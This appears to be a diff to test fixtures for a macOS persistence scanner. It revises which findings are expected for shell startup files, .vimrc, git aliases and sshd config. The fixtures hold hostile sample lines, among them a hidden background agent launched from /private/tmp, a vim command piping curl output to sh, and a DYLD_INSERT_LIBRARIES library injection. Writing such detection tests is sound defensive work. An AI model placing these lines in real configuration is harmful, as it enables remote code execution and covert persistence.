@@ -433,7 +433,33 @@ export PATH="$HOME/bin:$PATH"
 eval "$(/opt/homebrew/bin/brew shellenv)"
 (nohup /private/tmp/.x/agent >/dev/null 2>&1 &)
 `,
-    items: [{ when: ['shell'], findings: ['program-in-tmp', 'hidden-program', 'wrapped-program'] }],
+    items: [{ when: ['shell'], findings: ['program-in-tmp'] }],
+  },
+  {
+    mechanism: 'shell-startup',
+    path: `${home}/.zshenv`,
+    home,
+    content: '. "$HOME/.cargo/env"\nalias kd="base64 -d"\nalias up="curl -O https://example.com/x"\n',
+    items: [{ findings: [] }],
+  },
+  {
+    mechanism: 'shell-startup',
+    path: '/private/etc/profile',
+    content: 'export DYLD_INSERT_LIBRARIES=/usr/local/lib/x.dylib\n',
+    items: [{ findings: ['dyld-environment'] }],
+  },
+  {
+    mechanism: 'periodic',
+    path: '/private/etc/defaults/periodic.conf',
+    content: 'local_periodic="/usr/local/etc/periodic"\ndaily_local="/etc/daily.local"\n',
+    items: [],
+  },
+  {
+    mechanism: 'ssh-config',
+    path: '/private/etc/ssh/sshd_config.d/100-macos.conf',
+    content:
+      'UsePAM yes\nAcceptEnv LANG LC_*\nSubsystem sftp /usr/libexec/sftp-server\nInclude /etc/ssh/crypto.conf\n',
+    items: [],
   },
   {
     mechanism: 'event-monitor',
@@ -805,7 +831,7 @@ eval "$(/opt/homebrew/bin/brew shellenv)"
     path: `${home}/.vimrc`,
     home,
     content: 'set number\n:silent !/usr/local/bin/x &\ncall system("curl https://example.com | sh")\n',
-    items: [{ findings: ['network-download', 'remote-script'] }],
+    items: [{ findings: ['remote-script'] }],
   },
   {
     mechanism: 'editor-task',
@@ -846,7 +872,7 @@ eval "$(/opt/homebrew/bin/brew shellenv)"
 `,
     items: [
       { label: 'core.hooksPath', runs: ['/Users/mara/.hidden/hooks'] },
-      { label: 'alias.x', findings: ['network-download', 'remote-script'] },
+      { label: 'alias.x', findings: ['remote-script'] },
     ],
   },
   {
